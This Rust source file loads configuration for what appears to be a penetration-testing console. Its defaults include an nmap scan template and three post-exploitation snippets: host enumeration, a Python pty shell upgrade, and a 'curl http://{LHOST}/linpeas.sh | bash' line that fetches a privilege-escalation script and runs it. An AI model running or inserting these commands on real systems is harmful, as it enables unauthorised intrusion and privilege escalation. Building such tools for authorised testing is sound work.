//! Client configuration loading
//!
//! Reads `config.toml` from the opdeck config directory. Missing files and
//! parse errors fall back to defaults; a broken config should never keep the
//! console from starting.

use std::path::Path;

use serde::Deserialize;

use opdeck_utils::paths::config_file;

use crate::snippets::{Snippet, Vars};

pub const DEFAULT_SERVER_ADDR: &str = "tcp://127.0.0.1:7070";
pub const DEFAULT_API_BASE: &str = "http://127.0.0.1:5000/";
pub const DEFAULT_NMAP_COMMAND: &str = "nmap -sC -sV {RHOST}";

#[derive(Debug, Clone, Deserialize, PartialEq)]
#[serde(default)]
pub struct Config {
    pub server: ServerConfig,
    pub vars: Vars,
    /// Scan template offered in the tools pane
    pub nmap_command: String,
    /// Workspace notes are filed under; optional because archiving is
    /// refused without one
    pub workspace: Option<u64>,
    pub snippets: Vec<Snippet>,
}

#[derive(Debug, Clone, Deserialize, PartialEq)]
#[serde(default)]
pub struct ServerConfig {
    /// Event connection address (tcp://host:port or unix://path)
    pub addr: String,
    /// Collaborator REST base URL
    pub api: String,
}

impl Default for ServerConfig {
    fn default() -> Self {
        Self {
            addr: DEFAULT_SERVER_ADDR.to_string(),
            api: DEFAULT_API_BASE.to_string(),
        }
    }
}

impl Default for Config {
    fn default() -> Self {
        Self {
            server: ServerConfig::default(),
            vars: Vars::default(),
            nmap_command: DEFAULT_NMAP_COMMAND.to_string(),
            workspace: None,
            snippets: default_snippets(),
        }
    }
}

fn default_snippets() -> Vec<Snippet> {
    vec![
        Snippet {
            label: "enum basics".into(),
            command: "id; hostname; uname -a".into(),
        },
        Snippet {
            label: "tty upgrade".into(),
            command: "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'".into(),
        },
        Snippet {
            label: "fetch linpeas".into(),
            command: "curl -s http://{LHOST}/linpeas.sh | bash".into(),
        },
    ]
}

impl Config {
    /// Load from the default config file, falling back to defaults
    pub fn load() -> Self {
        Self::load_from(&config_file())
    }

    pub fn load_from(path: &Path) -> Self {
        if !path.exists() {
            tracing::debug!("config file not found, using defaults");
            return Self::default();
        }

        match std::fs::read_to_string(path) {
            Ok(content) => match toml::from_str::<Config>(&content) {
                Ok(config) => config,
                Err(e) => {
                    tracing::warn!("failed to parse config file: {}, using defaults", e);
                    Self::default()
                }
            },
            Err(e) => {
                tracing::warn!("failed to read config file: {}, using defaults", e);
                Self::default()
            }
        }
    }
}
